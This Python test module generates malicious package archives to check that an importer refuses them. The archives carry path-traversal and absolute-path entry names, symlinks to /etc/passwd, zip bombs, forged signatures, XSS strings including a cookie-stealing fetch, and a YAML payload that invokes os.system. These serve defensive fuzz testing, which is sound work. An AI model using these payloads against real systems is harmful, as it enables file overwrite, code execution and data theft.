"""Packages that somebody made to do harm, from a seed: each is told with the codes that refusing it may have.

The sender has a key of their own, so whatever lies inside a package is properly signed unless that is the attack.
"""

import base64
import io
import json
import random
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from uuid import uuid4

import numpy as np
import soundfile

from qa_desk.domain.errors import ErrorCode
from qa_desk.services.packages.limits import FORMAT, SCHEMA_VERSION
from qa_desk.services.packages.strict_json import canonical
from qa_desk.services.packages.writing_zip import file_of
from qa_desk.store.sealing.centre_key import CentreKey

Parts = dict[str, bytes]

UNSAFE = frozenset({ErrorCode.PACKAGE_UNSAFE})
BROKEN = frozenset({ErrorCode.PACKAGE_BROKEN})
LARGE = frozenset({ErrorCode.PACKAGE_TOO_LARGE})
INVALID = frozenset({ErrorCode.PACKAGE_INVALID})
CHANGED = frozenset({ErrorCode.PACKAGE_CHANGED})
FORM = frozenset({ErrorCode.PACKAGE_INVALID, ErrorCode.YAML_ALIAS, ErrorCode.YAML_BROKEN, ErrorCode.SCORECARD_INVALID})

_KEY = CentreKey(b"a sender who means no good at al")
_OUTSIDE = ("../../{n}.txt", "recordings/../../{n}.flac", "..\\..\\{n}.exe", "recordings/..\\..\\{n}.flac")
_ABSOLUTE = ("/etc/cron.d/{n}", "/tmp/{n}", "\\\\server\\share\\{n}", "//server/share/{n}")
_DRIVES = ("C:\\Windows\\{n}.dll", "c:{n}.txt", "Z:/{n}", "recordings/C:{n}.flac")
_STRANGE = ("con", "recordings/{n}.wav", "settled.json/{n}", "SETTLED.JSON", "{n}\n.json", "réc/{n}", "", ".hidden")
_SCRIPTS = (
    "<script>fetch('http://127.0.0.1/'+document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "see <a href='javascript:alert(1)'>this</a>",
    "<iframe src='file:///etc/passwd'></iframe>",
    "< SVG onload=alert(1)>",
)
_CONTROLS = ("a\u0000b", "\u001b[2Jgone", "abc\u202egnp.exe", "bell\u0007", "x\ud800y")


@dataclass(frozen=True, slots=True)
class Hostile:
    """A package to be refused: what is wrong with it, its bytes, and the codes that say so."""

    name: str
    data: bytes
    codes: frozenset[ErrorCode]


def parts_of(package: Path) -> Parts:
    """The parts of a good package, as if they came from the sender: of a case and a call that nobody has."""
    with zipfile.ZipFile(package) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    manifest = json.loads(parts["manifest.json"])
    theirs = {call["id"]: str(uuid4()) for call in manifest["calls"]}
    theirs |= {case["home"]: _KEY.id for case in manifest["cases"]}
    return signed({_said(name, theirs): _renamed(name, data, theirs) for name, data in parts.items()})


def hostile(seed: int, good: Parts) -> Hostile:
    """The package of a seed; seeds one after another go through all kinds."""
    rng = random.Random(seed)
    name, make = _KINDS[seed % len(_KINDS)]
    data, codes = make(rng, dict(good))
    return Hostile(f"{name} ({seed})", data, codes)


def n_kinds() -> int:
    """How many kinds of attack there are."""
    return len(_KINDS)


Made = tuple[bytes, frozenset[ErrorCode]]
Change = Callable[[random.Random, dict[str, Any]], object]


def zipped(parts: Parts, extra: Callable[[zipfile.ZipFile], object] = lambda _archive: None) -> bytes:
    """A zip of these parts, sound stored and texts folded as a package has them."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            folding = zipfile.ZIP_STORED if name.endswith(".flac") else zipfile.ZIP_DEFLATED
            archive.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), data, folding)
        extra(archive)
    return target.getvalue()


def signed(parts: Parts, change: Callable[[dict[str, Any]], object] = lambda _manifest: None) -> Parts:
    """The parts with a manifest that fits them and is signed by the sender; `change` comes before the signature."""
    manifest = json.loads(parts["manifest.json"])
    del manifest["signature"]
    others = sorted(name for name in parts if name != "manifest.json")
    files = [file_of(name, parts[name]) for name in others]
    manifest["files"] = [{"path": one.path, "size": one.size_bytes, "sha256": one.sha256} for one in files]
    manifest["centre"]["public_key"] = base64.b64encode(_KEY.public_key).decode()
    change(manifest)
    try:
        said = f"{FORMAT} {SCHEMA_VERSION}\n".encode() + canonical(manifest)
        manifest["signature"] = base64.b64encode(_KEY.sign(said)).decode()
    except ValueError:  # what no program could sign goes out with a signature of something else
        manifest["signature"] = base64.b64encode(_KEY.sign(b"")).decode()
    return parts | {"manifest.json": json.dumps(manifest).encode()}


def _entry(names: tuple[str, ...]) -> Callable[[random.Random, Parts], Made]:
    def make(rng: random.Random, parts: Parts) -> Made:
        name = rng.choice(names).format(n=f"pwned-{rng.randrange(10**6)}")
        return zipped(parts | {name: b"not welcome"}), UNSAFE | (BROKEN if not name else frozenset())

    return make


def _link(rng: random.Random, parts: Parts) -> Made:
    def add(archive: zipfile.ZipFile) -> None:
        info = zipfile.ZipInfo("transcripts.json")
        info.create_system = 3
        info.external_attr = rng.choice((0o120777, 0o040755, 0o020666, 0o010644)) << 16
        archive.writestr(info, "/etc/passwd")

    return zipped({name: data for name, data in parts.items() if name != "transcripts.json"}, add), UNSAFE


def _ratio_bomb(rng: random.Random, parts: Parts) -> Made:
    return zipped(parts | {"settled.json": b" " * rng.randrange(2 * 10**6, 10**7)}), UNSAFE


def _size_bomb(rng: random.Random, parts: Parts) -> Made:
    return zipped(parts | {"marks.json": b"0" * (17 * 1024 * 1024)}), LARGE


def _folded_sound(rng: random.Random, parts: Parts) -> Made:
    name = _recording(parts)
    data = {one: content for one, content in parts.items() if one != name}
    return zipped(data, lambda archive: archive.writestr(name, bytes(10**6), zipfile.ZIP_DEFLATED)), UNSAFE


def _nested(rng: random.Random, parts: Parts) -> Made:
    name = rng.choice(("inner.zip", "recordings/inner.qacase", "scorecards/inner.zip"))
    return zipped(parts | {name: zipped(parts)}), UNSAFE


def _zip_as_sound(rng: random.Random, parts: Parts) -> Made:
    return zipped(signed(parts | {_recording(parts): zipped({"a": b"b"})})), INVALID


def _not_flac(rng: random.Random, parts: Parts) -> Made:
    target = io.BytesIO()
    noise = np.random.default_rng(rng.randrange(10**6)).normal(0, 0.1, (8000, 1))
    soundfile.write(target, noise, 8000, format=rng.choice(("WAV", "AIFF", "OGG")))
    return zipped(signed(parts | {_recording(parts): target.getvalue()})), INVALID


def _other_flac(rng: random.Random, parts: Parts) -> Made:
    """FLAC, but of another length, rate or width than was said."""
    target = io.BytesIO()
    rate_hz, channels = rng.choice(((8000, 1), (48_000, 2), (16_000, 2)))
    codec = rng.choice(("PCM_S8", "PCM_16", "PCM_24"))
    silence = np.zeros((rng.randrange(100, 3 * rate_hz), channels))
    soundfile.write(target, silence, rate_hz, codec, format="FLAC")
    return zipped(signed(parts | {_recording(parts): target.getvalue()})), INVALID


def _cut_flac(rng: random.Random, parts: Parts) -> Made:
    name = _recording(parts)
    return zipped(signed(parts | {name: parts[name][: rng.randrange(50, len(parts[name]) // 2)]})), INVALID


def _deep_flac(rng: random.Random, parts: Parts) -> Made:
    """FLAC of 24 bits, of the length, rate and width that was said, and damaged within its frames or in its head."""
    name, target = _recording(parts), io.BytesIO()
    sound, rate_hz = soundfile.read(io.BytesIO(parts[name]), dtype="int16", always_2d=True)
    soundfile.write(target, sound.astype(np.int32) << 16, rate_hz, "PCM_24", format="FLAC")
    data = bytearray(target.getvalue())
    if rng.random() < 0.5:  # the head says another number of bits: five bits of it across two bytes
        bits = rng.choice((4, 12, 20, 32)) - 1
        data[20] = data[20] & 0xFE | bits >> 4
        data[21] = data[21] & 0x0F | (bits & 0xF) << 4
    else:
        at = rng.randrange(len(data) // 4, len(data) // 2)
        data[at : at + 4000] = rng.randbytes(len(data[at : at + 4000]))
    return zipped(signed(parts | {name: bytes(data)})), INVALID


def _endless_flac(rng: random.Random, parts: Parts) -> Made:
    """Silence of hours in a few kilobytes, where seconds were said: it is given up at what was said."""
    target = io.BytesIO()
    rate_hz = 8000
    with soundfile.SoundFile(target, "w", rate_hz, 2, "PCM_24", format="FLAC") as file:
        for _minute in range(rng.randrange(30, 90)):
            file.write(np.zeros((60 * rate_hz, 2), np.int32))
    return zipped(signed(parts | {_recording(parts): target.getvalue()})), INVALID


def _wrong_checksum(rng: random.Random, parts: Parts) -> Made:
    name = rng.choice(sorted(set(parts) - {"manifest.json"}))
    data = bytearray(parts[name])
    data[rng.randrange(len(data))] ^= 1 << rng.randrange(8)
    return zipped(parts | {name: bytes(data)}), CHANGED


def _forged_manifest(rng: random.Random, parts: Parts) -> Made:
    manifest = json.loads(parts["manifest.json"])
    manifest["cases"][0]["version"] += rng.randrange(1, 9)
    return zipped(parts | {"manifest.json": json.dumps(manifest).encode()}), CHANGED


def _foreign_signature(rng: random.Random, parts: Parts) -> Made:
    manifest = json.loads(parts["manifest.json"])
    manifest["signature"] = base64.b64encode(rng.randbytes(64)).decode()
    return zipped(parts | {"manifest.json": json.dumps(manifest).encode()}), CHANGED


def _truncated(rng: random.Random, parts: Parts) -> Made:
    data = zipped(parts)
    return data[: rng.randrange(1, len(data) - 1)], BROKEN


def _appended(rng: random.Random, parts: Parts) -> Made:
    data = zipped(parts)
    return rng.choice((data + rng.randbytes(30), rng.randbytes(30) + data)), BROKEN


def _no_zip(rng: random.Random, parts: Parts) -> Made:
    return rng.choice((b"", b"PK", rng.randbytes(5000), b"%PDF-1.7\n" * 50)), BROKEN


def _damaged(rng: random.Random, parts: Parts) -> Made:
    """Bytes changed within the folded texts or the list of entries."""
    data = bytearray(zipped(parts))
    end = data.rindex(b"PK\x05\x06")
    at = struct.unpack_from("<L", data, end + 16)[0]
    for _time in range(20):
        data[rng.randrange(at, end)] ^= 1 << rng.randrange(8)
    return bytes(data), BROKEN | UNSAFE | LARGE | CHANGED | INVALID


def _many_entries(rng: random.Random, parts: Parts) -> Made:
    extra = {f"recordings/{number:08x}-0000-4000-8000-000000000000.flac": b"x" for number in range(3000)}
    return zipped(parts | extra), LARGE


def _twice(rng: random.Random, parts: Parts) -> Made:
    name = rng.choice(("settled.json", "manifest.json", "marks.json"))
    return zipped(parts, lambda archive: archive.writestr(name, b"{}")), UNSAFE


def _lying_size(rng: random.Random, parts: Parts) -> Made:
    """The list says less, or more, than what unfolds."""
    data = bytearray(zipped(parts))
    at = data.rindex(b"settled.json") - 46 + 24
    size = struct.unpack_from("<L", data, at)[0]
    struct.pack_into("<L", data, at, rng.choice((size // 2, size + 1000, 1)))
    return bytes(data), BROKEN | CHANGED


def _lying_count(rng: random.Random, parts: Parts) -> Made:
    data = bytearray(zipped(parts))
    end = data.rindex(b"PK\x05\x06")
    struct.pack_into("<HH", data, end + 8, *(2 * (rng.choice((1, 0xFFFF, 60_000)),)))
    return bytes(data), BROKEN | LARGE


def _encrypted(rng: random.Random, parts: Parts) -> Made:
    data = bytearray(zipped(parts))
    at = data.rindex(b"marks.json") - 46 + 8
    struct.pack_into("<H", data, at, 0x1)
    return bytes(data), UNSAFE


def _overlapping(rng: random.Random, parts: Parts) -> Made:
    """Two entries of one place, as bombs without nesting have them."""
    data = bytearray(zipped(parts))
    first, second = data.rindex(b"settled.json") - 46 + 42, data.rindex(b"marks.json") - 46 + 42
    struct.pack_into("<L", data, second, struct.unpack_from("<L", data, first)[0])
    return bytes(data), UNSAFE


def _document(part: str, change: Change) -> Callable[[random.Random, Parts], Made]:
    """An attack within a JSON part of a package that is whole and signed."""

    def make(rng: random.Random, parts: Parts) -> Made:
        document = json.loads(parts[part])
        change(rng, document)
        return zipped(signed(parts | {part: json.dumps(document).encode()})), INVALID

    return make


def _manifest(change: Change, codes: frozenset[ErrorCode] = INVALID) -> Callable[[random.Random, Parts], Made]:
    """An attack within a manifest that is signed."""

    def make(rng: random.Random, parts: Parts) -> Made:
        return zipped(signed(parts, lambda manifest: change(rng, manifest))), codes

    return make


def _text(part: str, data: Callable[[random.Random], bytes]) -> Callable[[random.Random, Parts], Made]:
    def make(rng: random.Random, parts: Parts) -> Made:
        return zipped(signed(parts | {part: data(rng)})), INVALID

    return make


def _form(data: Callable[[random.Random, bytes], bytes]) -> Callable[[random.Random, Parts], Made]:
    def make(rng: random.Random, parts: Parts) -> Made:
        name = next(one for one in parts if one.startswith("scorecards/"))
        return zipped(signed(parts | {name: data(rng, parts[name])})), FORM

    return make


def _newer(rng: random.Random, parts: Parts) -> Made:
    changed = signed(parts, lambda manifest: manifest.update(schema=rng.randrange(2, 99), unheard_of=[1]))
    return zipped(changed), frozenset({ErrorCode.PACKAGE_NEWER})


def _put(rng: random.Random, document: dict[str, Any], texts: tuple[str, ...]) -> None:
    """One of these texts in one of the places of a case that hold text."""
    case, text = document["cases"][0], rng.choice(texts)
    place = rng.choice(("title", "rationale", "business_type", "tag", "why"))
    if place == "tag":
        case["tags"] = [text]
    elif place == "why":
        case["answers"][0]["rationale"] = text
    else:
        case[place] = text


def _strange_time(rng: random.Random) -> bytes:
    number = rng.choice(("NaN", "Infinity", "-Infinity", "1e999", "-1.5", "9" * 400, "1e10", '"0"', "true", "null"))
    return b'{"cases": [{"id": "%s", "marks": [{"start_s": %s, "end_s": 1.0}]}]}' % (b"0" * 8, number.encode())


def _times(rng: random.Random, document: dict[str, Any]) -> None:
    mark = {"start_s": rng.uniform(5, 9), "end_s": rng.uniform(0, 4)}
    document["cases"][0]["marks"] = [rng.choice((mark, {"start_s": 0, "end_s": 20_000}, {"start_s": -1, "end_s": 1}))]


def _answers(rng: random.Random, document: dict[str, Any]) -> None:
    case = document["cases"][0]
    answer = case["answers"][rng.randrange(len(case["answers"]))]
    kind = rng.choice(("criterion", "twice", "na", "reason", "missing"))
    if kind == "criterion":
        answer["criterion"] = "nobody_knows"
    elif kind == "twice":
        case["answers"].append(answer)
    elif kind == "na":
        answer |= {"na": True, "rating": True}
    elif kind == "reason":
        answer["reasons"] = ["nobody_knows"]
    else:
        del answer["rationale"]


def _ids(rng: random.Random, manifest: dict[str, Any]) -> None:
    """Ids twice, of nothing, or no ids."""
    kind = rng.choice(("twice", "call", "path", "odd"))
    if kind == "twice":
        manifest["cases"].append(dict(manifest["cases"][0]))
    elif kind == "call":
        manifest["cases"][0]["call"] = "00000000-0000-4000-8000-000000000000"
    elif kind == "path":
        manifest["calls"][0]["recording"] = "recordings/00000000-0000-4000-8000-000000000000.flac"
    else:
        manifest["cases"][0]["id"] = "../../../etc/passwd"


def _counts(rng: random.Random, document: dict[str, Any]) -> None:
    document["cases"] = [document["cases"][0]] * rng.randrange(501, 4000)


def _shape(rng: random.Random, document: dict[str, Any]) -> None:
    case = document["cases"][0]
    key = rng.choice(sorted(case))
    case[key] = rng.choice(([[]], {"a": 1}, -1, None))


def _lists(rng: random.Random, manifest: dict[str, Any]) -> None:
    """A list of files that does not fit what is there."""
    kind = rng.choice(("lost", "size", "more"))
    if kind == "lost":
        manifest["files"][0]["path"] = "transcripts.jso"
    elif kind == "size":
        manifest["files"][0]["size"] += 1
    else:
        manifest["files"].append({"path": "../../x", "size": 1, "sha256": "0" * 64})


def _nested_json(rng: random.Random) -> bytes:
    depth = rng.randrange(5000, 100_000)
    return b"".join(b"[%d," % rng.randrange(10**6) for _level in range(depth)) + b"]" * depth


def _said(text: str, names: dict[str, str]) -> str:
    for old, new in names.items():
        text = text.replace(old, new)
    return text


def _renamed(name: str, data: bytes, names: dict[str, str]) -> bytes:
    return data if name.endswith(".flac") else _said(data.decode(), names).encode()


def _recording(parts: Parts) -> str:
    return next(name for name in sorted(parts) if name.endswith(".flac"))


_KINDS: tuple[tuple[str, Callable[[random.Random, Parts], Made]], ...] = (
    ("path outwards", _entry(_OUTSIDE)),
    ("absolute path", _entry(_ABSOLUTE)),
    ("drive letter", _entry(_DRIVES)),
    ("strange name", _entry(_STRANGE)),
    ("link or device", _link),
    ("bomb by ratio", _ratio_bomb),
    ("bomb by size", _size_bomb),
    ("folded sound", _folded_sound),
    ("nested zip", _nested),
    ("zip for sound", _zip_as_sound),
    ("no FLAC", _not_flac),
    ("another FLAC", _other_flac),
    ("cut FLAC", _cut_flac),
    ("damaged FLAC of 24 bits", _deep_flac),
    ("endless FLAC", _endless_flac),
    ("wrong checksum", _wrong_checksum),
    ("forged manifest", _forged_manifest),
    ("foreign signature", _foreign_signature),
    ("truncated", _truncated),
    ("something around it", _appended),
    ("no zip", _no_zip),
    ("damaged list", _damaged),
    ("many entries", _many_entries),
    ("name twice", _twice),
    ("lying size", _lying_size),
    ("lying count", _lying_count),
    ("encrypted", _encrypted),
    ("overlapping", _overlapping),
    ("newer schema", _newer),
    ("script in a text", _document("settled.json", lambda rng, document: _put(rng, document, _SCRIPTS))),
    ("control characters", _document("settled.json", lambda rng, document: _put(rng, document, _CONTROLS))),
    ("wrong answers", _document("settled.json", _answers)),
    ("wrong shape", _document("settled.json", _shape)),
    ("huge counts", _document("settled.json", _counts)),
    ("times that are none", _text("marks.json", _strange_time)),
    ("times out of order", _document("marks.json", _times)),
    ("nested JSON", _text("marks.json", _nested_json)),
    ("key twice", _text("marks.json", lambda rng: b'{"cases": [], "cases": []}')),
    ("no JSON", _text("settled.json", lambda rng: rng.choice((b"\xff\xfe{}", b"{", b"<xml/>", b"[]", b"nul")))),
    ("ids", _manifest(_ids)),
    ("list of files", _manifest(_lists, INVALID | CHANGED)),
    ("YAML alias", _form(lambda rng, data: b"a: &a [x]\nb: *a\n" + data)),
    ("YAML object", _form(lambda rng, data: b"key: !!python/object/apply:os.system ['touch pwned']\n" + data)),
    ("script in a form", _form(lambda rng, data: data.replace(b"Greeting", b"<script>alert(1)</script>", 1))),
)
